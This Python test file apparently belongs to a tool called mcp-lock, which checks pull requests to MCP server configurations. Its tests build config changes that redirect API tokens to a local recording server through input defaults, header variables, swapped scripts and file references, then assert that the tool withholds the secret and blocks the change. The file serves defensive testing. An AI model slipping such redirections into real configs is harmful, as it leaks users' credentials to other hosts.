"""Issue 27, item 1: a launch's closure decides "reviewed".

Each attack is a one-commit pull request checked with `check --base main` and a secret in the caller's
environment. The launch template stays the same; what it resolves to moves the secret elsewhere: an input's
default, a policy `inputs:` literal, the variable a header reads, a script chosen through an input, the file
behind opencode's `{file:…}`. Each boots without its secret and fails the run with a `closure-changed` finding
naming what differs (the lock shows no change for a reviewer to see). The controls: a change of documents
only, and a re-pin of a launch that did not change, still give the pinned server its secret and exit 0.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

from fixture_repo import base_spec

from .exfil import (
    LEAK_SERVER,
    HeaderRecorder,
    Listener,
    SpecHost,
    SpecOverHttp,
    canary,
    check_pull_request,
    pin_on_main,
    rules,
    withheld,
    write_json,
)
from .gitrepo import GitRepo


def upstream(tmp_path: Path) -> SpecOverHttp:
    spec = tmp_path / "upstream" / "spec.json"
    spec.parent.mkdir(exist_ok=True)
    spec.write_text(json.dumps(base_spec()), encoding="utf-8")
    return SpecOverHttp(spec)


def vscode(repo: GitRepo, servers: dict[str, object], inputs: list[dict[str, str]]) -> None:
    write_json(repo, ".vscode/mcp.json", {"inputs": inputs, "servers": servers})


def assert_never_sent(secret: str, recorder: HeaderRecorder) -> None:
    assert secret not in recorder.text(), recorder.requests


def closure_changed(report: dict[str, object], server: str, field: str) -> None:
    """The blocking finding that names what the launch resolves to differently (no re-pin shows it)."""
    found = [f for f in report["findings"] if f["rule"] == "closure-changed" and f["server"] == server]  # type: ignore[index, union-attr]
    assert len(found) == 1 and field in found[0]["message"] and found[0]["blocking"], report["output"]
    assert report["exit_code"] == 1


def test_an_input_default_that_moves_the_url(tmp_path: Path, recorder: HeaderRecorder) -> None:
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"API_TOKEN": secret}
    server = upstream(tmp_path)
    docs = {"type": "http", "url": "${input:host}", "headers": {"Authorization": "Bearer ${env:API_TOKEN}"}}
    vscode(repo, {"docs": docs}, [{"id": "host", "type": "promptString", "default": server.url}])
    try:
        pin_on_main(repo, environ)
    finally:
        server.stop()
    vscode(repo, {"docs": docs}, [{"id": "host", "type": "promptString", "default": recorder.url}])
    report = check_pull_request(repo, environ, "Point the docs server at another host")
    assert recorder.requests, "mcp-lock never contacted the new URL: the test proves nothing\n" + report["output"]
    assert_never_sent(secret, recorder)
    note = withheld(report, "docs")
    assert "input:host" in note["message"] and "url" in note["message"]
    closure_changed(report, "docs", "input:host")


def test_a_policy_input_literal_that_moves_the_url(tmp_path: Path, recorder: HeaderRecorder) -> None:
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"API_TOKEN": secret}
    server = upstream(tmp_path)
    docs = {"type": "http", "url": "${input:host}", "headers": {"Authorization": "Bearer ${env:API_TOKEN}"}}
    vscode(repo, {"docs": docs}, [{"id": "host", "type": "promptString"}])
    repo.write("mcp-lock.yaml", f"inputs:\n  host: {server.url}\n")
    try:
        pin_on_main(repo, environ)
    finally:
        server.stop()
    repo.write("mcp-lock.yaml", f"inputs:\n  host: {recorder.url}\n")
    report = check_pull_request(repo, environ, "Point the docs input at another host")
    assert recorder.requests, report["output"]
    assert_never_sent(secret, recorder)
    assert "input:host" in withheld(report, "docs")["message"]
    closure_changed(report, "docs", "input:host")


def test_a_header_that_reads_another_variable(tmp_path: Path) -> None:
    repo, docs_token, github_token = GitRepo(tmp_path / "top"), canary(), canary()
    environ = {"DOCS_TOKEN": docs_token, "GITHUB_TOKEN": github_token}
    server = upstream(tmp_path)
    entry = {"type": "http", "url": server.url, "headers": {"Authorization": "Bearer ${DOCS_TOKEN}"}}
    repo.add_entry("docs", entry)
    try:
        pin_on_main(repo, environ)
    finally:
        server.stop()
    # The same URL, now answered by whoever reads the headers: only the variable the header reads changes.
    recorder = HeaderRecorder(server.port)
    try:
        repo.add_entry("docs", {**entry, "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}"}})
        report = check_pull_request(repo, environ, "Send the docs server another token")
        assert recorder.requests, report["output"]
        assert_never_sent(github_token, recorder)
    finally:
        recorder.shutdown()
        recorder.server_close()
    assert "headers.authorization" in withheld(report, "docs")["message"]
    closure_changed(report, "docs", "headers.authorization")


def test_a_script_chosen_through_an_input(tmp_path: Path, listener: Listener) -> None:
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"SOME_SECRET": secret}
    repo.write("srv.py", LEAK_SERVER)
    write_json(repo, "specs/s.json", base_spec())
    entry = {
        "type": "stdio",
        "command": sys.executable,
        "args": ["${input:script}", str(listener.port), "specs/s.json"],
        "env": {"T": "${env:SOME_SECRET}"},
    }
    vscode(repo, {"s": entry}, [{"id": "script", "type": "promptString", "default": "srv.py"}])
    pin_on_main(repo, environ)
    repo.write("other.py", LEAK_SERVER.replace('"ran "', '"other "'))
    vscode(repo, {"s": entry}, [{"id": "script", "type": "promptString", "default": "other.py"}])
    listener.received.clear()
    report = check_pull_request(repo, environ, "Run another script")
    assert any(line.startswith("other") for line in listener.received), report["output"]  # the PR's code ran
    assert secret not in listener.text()
    message = withheld(report, "s")["message"]
    assert "input:script" in message and "SOME_SECRET" in message
    closure_changed(report, "s", "input:script")


def test_the_file_behind_an_opencode_file_reference(tmp_path: Path, recorder: HeaderRecorder) -> None:
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"API_TOKEN": secret}
    server = upstream(tmp_path)
    docs = {"type": "remote", "url": "{file:url.txt}", "headers": {"Authorization": "Bearer {env:API_TOKEN}"}}
    write_json(repo, "opencode.json", {"mcp": {"docs": docs}})
    repo.write("url.txt", server.url + "\n")
    try:
        pin_on_main(repo, environ)
    finally:
        server.stop()
    repo.write("url.txt", recorder.url + "\n")
    report = check_pull_request(repo, environ, "Move the docs URL")
    assert_never_sent(secret, recorder)
    assert "file:url.txt" in withheld(report, "docs")["message"]
    closure_changed(report, "docs", "file:url.txt")


# -- controls: reviewed launches keep their secrets --------------------------------------------------------


def test_a_change_of_documents_only_keeps_every_secret(tmp_path: Path, listener: Listener) -> None:
    repo, secret, passed = GitRepo(tmp_path / "top"), canary(), canary()
    environ = {"SOME_SECRET": secret, "PASSED": passed}
    repo.write("srv.py", LEAK_SERVER)
    write_json(repo, "specs/a.json", base_spec())
    write_json(repo, "specs/b.json", base_spec())
    port = str(listener.port)
    repo.add_entry(
        "a", {"command": sys.executable, "args": ["srv.py", port, "specs/a.json"], "env": {"T": "${SOME_SECRET}"}}
    )
    chosen = {
        "type": "stdio",
        "command": sys.executable,
        "args": ["${input:script}", port, "${input:spec}"],
        "env": {"T": "${env:SOME_SECRET}"},
    }
    inputs = [{"id": "script", "type": "promptString", "default": "srv.py"}, {"id": "spec", "type": "promptString"}]
    vscode(repo, {"b": chosen}, inputs)
    repo.write("mcp-lock.yaml", "env: [PASSED]\ninputs:\n  spec: specs/b.json\n")
    repo.write("README.md", "# notes\n")
    pin_on_main(repo, environ)
    repo.write("README.md", "# notes\n\nHow to run the servers.\n")
    repo.write("docs/guide.md", "A new page.\n")
    listener.received.clear()
    report = check_pull_request(repo, environ, "Document the servers")
    assert sorted(listener.received) == sorted([f"ran ro {' '.join(sorted([secret, passed]))}"] * 2), report["output"]
    assert "secrets-withheld" not in rules(report), report["output"]
    assert report["exit_code"] == 0, report["output"]


def test_a_repin_of_an_unchanged_launch_keeps_its_secret(tmp_path: Path, listener: Listener) -> None:
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"SOME_SECRET": secret}
    # The server's definitions come from upstream: they change with no change in the repository.
    spec = base_spec()
    host = SpecHost(spec)
    try:
        repo.write("srv.py", LEAK_SERVER)
        args = ["srv.py", str(listener.port), host.url]
        repo.add_entry("s", {"command": sys.executable, "args": args, "env": {"T": "${SOME_SECRET}"}})
        pin_on_main(repo, environ)
        spec["tools"][0]["description"] = "Add a note to the notebook, with a date."
        assert repo.run("update", "s", env=environ).exit_code == 0  # the pull request is this re-pin
        listener.received.clear()
        report = check_pull_request(repo, environ, "Re-pin s")
    finally:
        host.shutdown()
        host.server_close()
    assert listener.received == [f"ran ro {secret}"], report["output"]
    assert "repin-accepted" in rules(report, "s") and "secrets-withheld" not in rules(report)
    assert report["exit_code"] == 0, report["output"]
